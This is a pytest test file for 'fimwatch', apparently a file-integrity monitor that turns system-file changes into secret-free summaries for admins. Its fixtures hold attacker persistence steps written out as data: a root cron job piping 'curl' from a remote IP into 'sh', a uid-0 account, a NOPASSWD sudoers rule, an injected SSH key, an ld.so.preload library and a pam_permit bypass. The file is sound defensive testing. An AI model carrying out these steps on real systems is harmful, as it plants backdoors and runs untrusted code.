"""What a change means, in words (issue 15): the parsers of the "Meaning"
section of fimwatch.py, in-process on the texts the real tools write.

facts() turns a file into secret-free lines, summarize() compares two of
them. Each test states what the admin must read and what must never be in
it (a password hash, a private key). The daemon-level tests (one email per
change) are in tests/test_alerts.py."""

import base64
import hashlib
import subprocess

import pytest

import fimwatch
from fimwatch import facts, summarize


def say(path, kind, old, new, event="modified", **ev):
    """summarize() of an event on path whose content went from old to new
    (bytes, or None: unknown)."""
    ev = dict({"event": event, "path": path, "kind": "file"}, **ev)
    return summarize(ev, kind, None if old is None else facts(kind, old),
                     None if new is None else facts(kind, new))


PASSWD = b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
SHADOW = (b"root:$y$j9T$Salt0Salt0$HashOfRootHashOfRootHashOfRoot0:19000:0:99999:7:::\n"
          b"alice:$6$aaaa$AliceHashAliceHash:19000:0:99999:7:::\n")
GROUP = b"root:x:0:\nsudo:x:27:\nalice:x:1000:\n"
GSHADOW = b"root:*::\nsudo:*::\nalice:!::\n"


@pytest.mark.parametrize("path,kind", [
    ("/etc/passwd", "passwd"), ("/srv/t/shadow", "shadow"), ("/etc/gshadow", "gshadow"),
    ("/etc/subuid", "subuid"), ("/etc/sudoers", "sudoers"), ("/etc/sudoers.d/90-x", "sudoers"),
    ("/etc/ssh/sshd_config", "sshd"), ("/etc/ssh/sshd_config.d/a.conf", "sshd"),
    ("/root/.ssh/authorized_keys", "keys"), ("/etc/crontab", "cron"), ("/etc/cron.d/x", "cron"),
    ("/var/spool/cron/crontabs/alice", "usercron"),
    ("/etc/systemd/system/x.service", "unit"), ("/etc/pam.d/passwd", "lines"),
    ("/etc/pam.d/sshd", "lines"), ("/etc/ld.so.preload", "lines"), ("/etc/hosts", "lines"),
    ("/usr/bin/passwd", None), ("/etc/passwd-", None), ("/etc/motd", None)])
def test_meaning_kind(path, kind):
    assert fimwatch.meaning_kind(path) == kind


def test_useradd_passwd_group_and_uid0():
    new = PASSWD + b"eviltest:x:1001:1001::/home/eviltest:/bin/sh\n"
    assert say("/etc/passwd", "passwd", PASSWD, new) == ("user eviltest (uid 1001) added", False)
    new += b"toor:x:0:0::/root:/bin/bash\n"
    text, critical = say("/etc/passwd", "passwd", PASSWD, new)
    assert text == "user eviltest (uid 1001) added; uid 0 account toor added" and critical
    assert say("/etc/passwd", "passwd", new, PASSWD)[0] == \
        "user eviltest removed; user toor removed"
    shell = PASSWD.replace(b"1000:Alice:/home/alice:/bin/bash", b"1000:Alice:/home/alice:/bin/zsh")
    assert say("/etc/passwd", "passwd", PASSWD, shell)[0] == \
        "login shell of alice changed /bin/bash → /bin/zsh"
    g = GROUP + b"eviltest:x:1001:\n"
    assert say("/etc/group", "group", GROUP, g) == ("group eviltest (gid 1001) added", False)


def test_usermod_aG_sudo_in_group_and_gshadow():
    assert say("/etc/group", "group", GROUP, GROUP.replace(b"sudo:x:27:", b"sudo:x:27:alice")) \
        == ("alice added to group sudo", False)
    gs = GSHADOW.replace(b"sudo:*::", b"sudo:*::alice")
    assert say("/etc/gshadow", "gshadow", GSHADOW, gs)[0] == "alice added to group sudo"
    assert say("/etc/group", "group", GROUP.replace(b"sudo:x:27:", b"sudo:x:27:bob,alice"),
               GROUP.replace(b"sudo:x:27:", b"sudo:x:27:bob"))[0] == "alice removed from group sudo"


def test_shadow_says_password_changed_and_never_holds_a_hash():
    new = SHADOW.replace(b"$y$j9T$Salt0Salt0$HashOfRootHashOfRootHashOfRoot0:19000",
                         b"$y$j9T$Other0Salt$NewHashNewHashNewHashNewHash00:19001")
    assert say("/etc/shadow", "shadow", SHADOW, new) == ("password of root changed", False)
    locked = SHADOW.replace(b"alice:$6$", b"alice:!$6$")
    assert say("/etc/shadow", "shadow", SHADOW, locked)[0] == "account alice locked"
    empty = SHADOW.replace(b"alice:$6$aaaa$AliceHashAliceHash:", b"alice::")
    text, critical = say("/etc/shadow", "shadow", SHADOW, empty)
    assert "WITHOUT a password" in text and critical
    # The facts the Store keeps: no part of a hash or a salt.
    for f in facts("shadow", new) + facts("shadow", SHADOW):
        for secret in ("Salt0", "Other0", "HashOf", "NewHash", "AliceHash", "$6$", "$y$"):
            assert secret not in f
    # The date of the last change moving alone is not a password change.
    assert say("/etc/shadow", "shadow", SHADOW, SHADOW.replace(b":19000:0:99999:7:::\nalice",
                                                               b":19005:0:99999:7:::\nalice")) \
        == (None, False)


def test_subuid():
    assert say("/etc/subuid", "subuid", b"", b"eviltest:100000:65536\n")[0] == \
        "subordinate uids 100000-165535 given to eviltest"


def test_sudoers_rules_and_nopasswd():
    old = b"Defaults env_reset\n# a comment\nroot ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n"
    new = old + b"eviltest ALL=(ALL) \\\n    NOPASSWD: ALL\n"
    text, critical = say("/etc/sudoers", "sudoers", old, new)
    assert text == "sudoers rule added: eviltest ALL=(ALL) NOPASSWD: ALL " \
                   "(NOPASSWD: no password asked)" and critical
    text, critical = say("/etc/sudoers.d/deploy", "sudoers", None,
                         b"deploy ALL=(root) /usr/bin/systemctl restart app\n", event="created")
    assert text == "sudoers rule added: deploy ALL=(root) /usr/bin/systemctl restart app"
    assert not critical
    assert say("/etc/sudoers", "sudoers", old, old.replace(b"root ALL", b"#root ALL"))[0] == \
        "sudoers rule removed: root ALL=(ALL:ALL) ALL"


def test_sshd_config_directives():
    old = b"# comment\nPermitRootLogin no\nPort 22\nMatch User bob\n    X11Forwarding no\n"
    new = b"PermitRootLogin yes\nPermitRootLogin no\nPort 22\nPasswordAuthentication=yes\n" \
          b"Match User bob\n    X11Forwarding yes\n"
    assert say("/etc/ssh/sshd_config", "sshd", old, new)[0] == \
        "PermitRootLogin no → yes; PasswordAuthentication (unset) → yes; " \
        "Match User bob: X11Forwarding no → yes"


def test_authorized_keys_fingerprint_is_ssh_keygens(tmp_path):
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory@evil",
                    "-f", str(tmp_path / "k")], check=True)
    pub = (tmp_path / "k.pub").read_bytes()
    fp = subprocess.run(["ssh-keygen", "-lf", str(tmp_path / "k.pub")], check=True,
                        capture_output=True, text=True).stdout.split()[1]
    old = b"# keys\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 alice@laptop\n"
    new = old + b'from="10.0.0.1",no-pty ' + pub
    text, critical = say("/root/.ssh/authorized_keys", "keys", old, new)
    assert text == "SSH key added: ssh-ed25519 %s mallory@evil" % fp
    assert say("/root/.ssh/authorized_keys", "keys", new, old)[0] == \
        "SSH key removed: ssh-ed25519 %s mallory@evil" % fp
    # Never the private key, not even by mistake in the file.
    priv = (tmp_path / "k").read_bytes()
    assert facts("keys", priv) == []


def test_key_fingerprint_format():
    blob = b"\x00\x00\x00\x0bssh-ed25519" + b"\x00\x00\x00\x20" + b"k" * 32
    want = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    assert fimwatch.key_fingerprint(base64.b64encode(blob).decode()) == want
    assert fimwatch.key_fingerprint("not base64!") is None


def test_cron_jobs_system_and_user():
    text, _ = say("/etc/cron.d/evil", "cron", None,
                  b"SHELL=/bin/sh\n# m h dom mon dow user command\n"
                  b"*/5 * * * * root curl -s http://198.51.100.7/x | sh\n", event="created")
    assert text == "cron variable added: SHELL=/bin/sh; " \
                   "cron job added: */5 * * * * as root: curl -s http://198.51.100.7/x | sh"
    assert say("/var/spool/cron/crontabs/alice", "usercron", b"",
               b"@reboot /home/alice/run.sh\n")[0] == \
        "cron job added: @reboot as alice: /home/alice/run.sh"
    assert say("/etc/crontab", "cron", b"0 3 * * * root token=abc123 /x\n", b"")[0] == \
        "cron job removed: 0 3 * * * as root: token=[redacted]"


def test_unit_added_enabled_and_changed():
    unit = b"[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/run --quiet\n" \
           b"Environment=API_KEY=s3cr3t\n[Install]\nWantedBy=multi-user.target\n"
    text, _ = say("/etc/systemd/system/evil.service", "unit", None, unit, event="created")
    assert text == "unit evil.service added: ExecStart=/tmp/.x/run --quiet, " \
                   "WantedBy=multi-user.target"
    text, _ = say("/etc/systemd/system/evil.service", "unit", unit,
                  unit.replace(b"--quiet", b"--loud"))
    assert "ExecStart=/tmp/.x/run --loud" in text and "s3cr3t" not in "".join(facts("unit", unit))
    ev = {"event": "created", "kind": "symlink", "target": "/etc/systemd/system/evil.service",
          "path": "/etc/systemd/system/multi-user.target.wants/evil.service"}
    assert summarize(ev, "unit", [], None)[0] == \
        "unit evil.service enabled (multi-user.target.wants)"


def test_line_files_pam_preload_hosts():
    assert say("/etc/ld.so.preload", "lines", b"", b"/lib/x86_64-linux-gnu/libevil.so\n")[0] == \
        "line added: /lib/x86_64-linux-gnu/libevil.so"
    old = b"auth required pam_unix.so\n"
    assert say("/etc/pam.d/sshd", "lines", old, b"auth sufficient pam_permit.so\n" + old)[0] == \
        "line added: auth sufficient pam_permit.so"


def test_setuid_and_capabilities_and_new_executable():
    ev = {"event": "created", "path": "/usr/local/bin/x", "kind": "file", "mode": "4755",
          "uid": 0, "owner": "root"}
    assert summarize(ev) == ("new setuid-root binary", True)
    ev = {"event": "attributes", "path": "/usr/bin/find", "kind": "file", "mode": "4755",
          "uid": 0, "owner": "root", "previous": {"mode": "0755"}}
    assert summarize(ev) == ("setuid bit set (runs as root)", True)
    ev = {"event": "attributes", "path": "/usr/bin/python3", "kind": "file", "mode": "0755",
          "capability": "cap_setuid=ep", "previous": {"mode": "0755"}}
    assert summarize(ev) == ("file capabilities set: cap_setuid=ep", False)
    ev = {"event": "created", "path": "/usr/local/bin/y", "kind": "file", "mode": "0755"}
    assert summarize(ev) == ("new executable", False)


def test_a_content_change_with_more_in_it_is_still_summed_up():
    """add_summary skips the work for a plain content change (the most common
    event): a write that also set the setuid bit or a capability, or of a
    packaged file, must still get its summary and severity."""
    def added(**ev):
        ev = dict({"event": "modified", "path": "/usr/local/bin/x", "kind": "file",
                   "severity": "warning", "mode": "0755", "uid": 0, "owner": "root",
                   "previous": {"mode": "0755"}}, **ev)
        fimwatch.add_summary(ev)
        return ev.get("summary"), ev["severity"]
    assert added() == (None, "warning")
    assert added(mode="4755") == ("setuid bit set (runs as root)", "critical")
    assert added(capability="cap_setuid=ep", previous={"mode": "0755", "capability": ""}) == \
        ("file capabilities set: cap_setuid=ep", "warning")
    assert added(package={"transaction": "none", "name": "coreutils", "verified": True}) == \
        ("matches package coreutils, but no package manager ran", "warning")


def test_parse_failure_falls_back_to_no_summary():
    assert facts("passwd", b"\x00\x01binary") is None
    assert say("/etc/passwd", "passwd", None, PASSWD) == (None, False)     # old unknown
    ev = {"event": "modified", "path": "/etc/passwd", "kind": "file"}
    fimwatch.add_summary(ev, "passwd", ["broken"], ["x:y"])          # malformed facts
    assert "summary" not in ev


def test_combined_summary_puts_the_account_first():
    evs = [{"path": "/etc/shadow", "summary": "shadow entry for eviltest added"},
           {"path": "/etc/gshadow", "summary": "gshadow entry for eviltest added"},
           {"path": "/etc/group", "summary": "group eviltest (gid 1001) added"},
           {"path": "/etc/passwd", "summary": "user eviltest (uid 1001) added"},
           {"path": "/etc/passwd-"}]
    assert fimwatch.combined_summary(evs) == \
        "user eviltest (uid 1001) added; group eviltest (gid 1001) added"
    assert fimwatch.combined_summary(evs[:2]) == \
        "shadow entry for eviltest added; gshadow entry for eviltest added"
    assert fimwatch.combined_summary([{"path": "/x"}]) is None



def test_a_deploy_is_summed_up_by_its_directory():
    """Many changes with nothing else to say under one directory (a deploy)
    get one summary; unrelated paths or one file's changes get none."""
    site = [{"path": "/var/www/html/site", "event": "created", "kind": "dir"}] + \
        [{"path": "/var/www/html/site/f%d.php" % i, "event": "created", "kind": "file"}
         for i in range(150)] + \
        [{"path": "/var/www/html/site/index.php", "event": "modified", "kind": "file"}]
    assert fimwatch.combined_summary(site) == \
        "152 changes under /var/www/html/site: 151 created, 1 modified"
    assert fimwatch.combined_summary(site[1:4]) is None             # fewer than four
    assert fimwatch.combined_summary([{"path": "/etc/x", "event": "modified", "kind": "file"},
                                      {"path": "/usr/bin/y", "event": "created"}] * 2) is None
    assert fimwatch.combined_summary([{"path": "/etc/x", "event": "modified",
                                       "kind": "file"}] * 4) is None
    # a summary the changes have wins
    assert fimwatch.combined_summary(site + [{"path": "/var/www/html/site/.htaccess",
                                              "summary": "line added: x"}]) == "line added: x"


def test_a_packaged_file_changed_with_no_package_manager_says_so():
    ev = {"event": "modified", "path": "/usr/bin/tool", "kind": "file", "mode": "0755",
          "previous": {"mode": "0755"}, "package": {"name": "tool", "manager": "dpkg",
                                                    "verified": False, "transaction": "none"}}
    assert summarize(ev) == ("does not match package tool (no package manager ran)", False)
    ev["package"]["verified"] = True
    assert summarize(ev) == ("matches package tool, but no package manager ran", False)
    ev["package"]["transaction"] = "0123abcd"        # a transaction's: its digest says it
    assert summarize(ev) == (None, False)

def test_new_cron_daily_script():
    ev = {"event": "created", "path": "/etc/cron.daily/zz-evil", "kind": "file", "mode": "0755"}
    assert summarize(ev) == ("new cron.daily job; new executable", False)
    ev = {"event": "created", "path": "/etc/cron.deny", "kind": "file", "mode": "0644"}
    assert summarize(ev) == (None, False)


def test_change_groups_one_action_one_group():
    def ev(path, **kw):
        return dict({"id": path, "path": path, "event": "modified"}, **kw)
    evs = [ev("/etc/passwd"), ev("/etc/passwd-"), ev("/etc/shadow"), ev("/etc/subgid-"),
           ev("/etc/systemd/system/x.service"),
           ev("/etc/systemd/system/multi-user.target.wants/x.service"),
           ev("/etc/app.conf"), ev("/etc/app.conf.dpkg-old"),
           ev("/srv/a", process={"pid": 7, "exe": "/usr/bin/rsync"}),
           ev("/srv/b", process={"pid": 7, "exe": "/usr/bin/rsync"}),
           ev("/usr/bin/x", package={"name": "x"}), ev("/usr/lib/x.so", package={"name": "x"}),
           ev("/etc/other"), ev("", event="started")]
    groups = fimwatch.change_groups([(i, e) for i, e in enumerate(evs)])
    assert [[s for s, _ in g] for g in groups] == \
        [[0, 1, 2, 3], [4, 5], [6, 7], [8, 9], [10, 11], [12], [13]]


def test_chat_text_leads_with_the_summary():
    ev = {"id": "1", "host": "web1", "event": "modified", "severity": "critical",
          "path": "/etc/group", "summary": "alice added to group sudo", "changes": ["content"]}
    lines = fimwatch.chat_text(ev).splitlines()
    assert lines[0] == "*fimwatch* on web1: CRITICAL alice added to group sudo"
    assert lines[1] == "CRITICAL modified /etc/group (content)"
    dg = fimwatch.make_digest([ev, dict(ev, id="2", path="/etc/group-", summary=None)], "web1",
                              fimwatch.CHANGE_TOGETHER)
    assert fimwatch.chat_text(dg).splitlines()[0] == \
        "*fimwatch* on web1: CRITICAL alice added to group sudo (2 files)"
    assert fimwatch.event_subject(dg) == \
        "[fimwatch] CRITICAL alice added to group sudo on web1 (2 files)"
